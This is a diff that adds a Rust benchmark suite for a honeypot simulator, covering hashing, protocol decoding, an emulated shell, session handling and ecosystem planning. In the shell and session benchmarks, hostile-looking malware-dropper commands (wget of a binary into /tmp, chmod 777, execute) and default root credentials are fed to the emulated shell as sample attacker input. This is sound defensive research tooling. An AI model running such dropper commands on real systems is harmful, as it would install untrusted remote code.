@@ -1,0 +1,136 @@
+//! Substrate microbenches: the from-scratch building blocks under the
+//! honeyfarm — hashing, protocol codecs, the shell emulator, the session
+//! state machine, and one full simulated day.
+
+use criterion::{criterion_group, criterion_main, Criterion, Throughput};
+use hf_agents::{Ecosystem, EcosystemConfig, Scale};
+use hf_hash::Sha256;
+use hf_honeypot::{HoneypotConfig, SessionDriver};
+use hf_proto::creds::Credentials;
+use hf_proto::ssh_ident::SshIdent;
+use hf_proto::telnet::TelnetDecoder;
+use hf_proto::Protocol;
+use hf_shell::{NullFetcher, ShellSession, SyntheticFetcher, SystemProfile};
+use hf_simclock::{SimInstant, StudyWindow};
+use std::hint::black_box;
+
+fn bench_sha256(c: &mut Criterion) {
+    let mut g = c.benchmark_group("sha256");
+    for size in [64usize, 1024, 65_536] {
+        let data = vec![0xabu8; size];
+        g.throughput(Throughput::Bytes(size as u64));
+        g.bench_function(format!("digest_{size}B"), |b| {
+            b.iter(|| black_box(Sha256::digest(&data)))
+        });
+    }
+    g.finish();
+}
+
+fn bench_proto(c: &mut Criterion) {
+    c.bench_function("ssh_ident_parse", |b| {
+        b.iter(|| black_box(SshIdent::parse("SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5")))
+    });
+    let mut stream = Vec::new();
+    for i in 0..512u32 {
+        stream.push((i % 251) as u8);
+        if i % 37 == 0 {
+            stream.extend_from_slice(&[255, 253, 1]); // IAC DO ECHO
+        }
+    }
+    c.bench_function("telnet_decode_512B", |b| {
+        b.iter(|| {
+            let mut d = TelnetDecoder::new();
+            black_box(d.feed(&stream))
+        })
+    });
+}
+
+fn bench_shell(c: &mut Criterion) {
+    c.bench_function("shell_session_create", |b| {
+        b.iter(|| black_box(ShellSession::new(SystemProfile::default(), Box::new(NullFetcher))))
+    });
+    c.bench_function("shell_recon_script", |b| {
+        b.iter(|| {
+            let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
+            sh.execute("uname -a; cat /proc/cpuinfo | grep model; free -m");
+            black_box(sh.take_events())
+        })
+    });
+    c.bench_function("shell_dropper_script", |b| {
+        b.iter(|| {
+            let mut sh = ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher));
+            sh.execute("cd /tmp; wget http://h/x.bin; chmod 777 x.bin; ./x.bin");
+            black_box(sh.take_events())
+        })
+    });
+}
+
+fn bench_session(c: &mut Criterion) {
+    c.bench_function("session_scan", |b| {
+        b.iter(|| {
+            let mut d = SessionDriver::accept(
+                HoneypotConfig::default(),
+                0,
+                Protocol::Telnet,
+                hf_geo::Ip4::new(203, 0, 113, 1),
+                4000,
+                SimInstant::EPOCH,
+                Box::new(NullFetcher),
+            );
+            d.advance(3);
+            d.client_close();
+            black_box(d.into_record())
+        })
+    });
+    c.bench_function("session_intrusion", |b| {
+        b.iter(|| {
+            let mut d = SessionDriver::accept(
+                HoneypotConfig::default(),
+                0,
+                Protocol::Ssh,
+                hf_geo::Ip4::new(203, 0, 113, 1),
+                4000,
+                SimInstant::EPOCH,
+                Box::new(SyntheticFetcher),
+            );
+            d.offer_credentials(Credentials::new("root", "1234"), 1);
+            d.run_command("cd /tmp && wget http://h/m && chmod 777 m", 2);
+            d.client_close();
+            black_box(d.into_record())
+        })
+    });
+}
+
+fn bench_planning(c: &mut Criterion) {
+    let mut g = c.benchmark_group("planning");
+    g.sample_size(10);
+    g.bench_function("ecosystem_plan_one_day", |b| {
+        let mut eco = Ecosystem::new(EcosystemConfig {
+            seed: 1,
+            scale: Scale::of(0.002),
+            window: StudyWindow::paper(),
+        });
+        // Warm up rosters so the measured day is steady-state.
+        eco.plan_day(99);
+        let mut day = 100u32;
+        b.iter(|| {
+            let plans = eco.plan_day(day);
+            day += 1;
+            if day > 400 {
+                day = 100;
+            }
+            black_box(plans.len())
+        })
+    });
+    g.finish();
+}
+
+criterion_group!(
+    benches,
+    bench_sha256,
+    bench_proto,
+    bench_shell,
+    bench_session,
+    bench_planning
+);
+criterion_main!(benches);
